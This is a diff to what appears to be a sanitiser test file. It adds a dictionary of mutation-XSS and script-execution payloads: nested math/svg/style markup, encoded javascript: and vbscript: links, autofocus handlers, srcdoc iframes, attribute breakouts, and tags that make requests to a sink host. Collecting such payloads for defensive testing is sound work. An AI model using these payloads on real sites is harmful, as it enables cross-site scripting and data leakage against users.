@@ -43,3 +43,28 @@ MORE = {
 }
 
 PAYLOADS = {**KINDS, **MORE}
+
+# Markup that sanitisers took for harmless and browsers then read anew as something else (mutation XSS), and other
+# ways to run a script or make a request that need none of the elements above.
+MUTATIONS = {
+    "table and mglyph": "<math><mtext><table><mglyph><style><!--</style>"
+    "<img title='--&gt;&lt;img src=1 onerror=alert(30)&gt;'>",
+    "svg and p": "<svg></p><style><a id='</style><img src=1 onerror=alert(31)>'>",
+    "form in form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(32)>",
+    "noscript": "<noscript><p title='</noscript><img src=x onerror=alert(33)>'>",
+    "svg style": "<svg><style><img src=x onerror=alert(35)></style></svg>",
+    "template": "<template><script>alert(36)</script></template>",
+    "xmp": "<xmp><p title='</xmp><img src=1 onerror=alert(37)>'>",
+    "entity in link": '<a href="&#106;avascript:alert(38)">x</a> [x](&#106;avascript:alert(39))',
+    "vbscript": "[x](vbscript:msgbox(40)) [y](JaVaScRiPt:alert(40)) [z](\x01javascript:alert(40))",
+    "base": f'<base href="{SINK}/41/">',
+    "refresh": f'<meta http-equiv="refresh" content="0;url={SINK}/42">',
+    "object": f'<object data="{SINK}/43.swf"></object><embed src="{SINK}/43.swf">',
+    "autofocus": "<input autofocus onfocus=alert(44)><textarea autofocus onfocus=alert(44)>",
+    "srcdoc": "<iframe srcdoc='<script>alert(45)</script>'></iframe>",
+    "quoted attribute": 'x" autofocus tabindex=1 onfocus=alert(46) data-x="',
+    "preload": f'<link rel="prefetch" href="{SINK}/47"><link rel="dns-prefetch" href="{SINK}">',
+    "srcset": f'<img srcset="{SINK}/48.png 1x"><picture><source srcset="{SINK}/48.png"></picture>',
+    "html image in a table": f"| a |\n|---|\n| ![x]({SINK}/49.png) |",
+}
+ALL = {**PAYLOADS, **MUTATIONS}
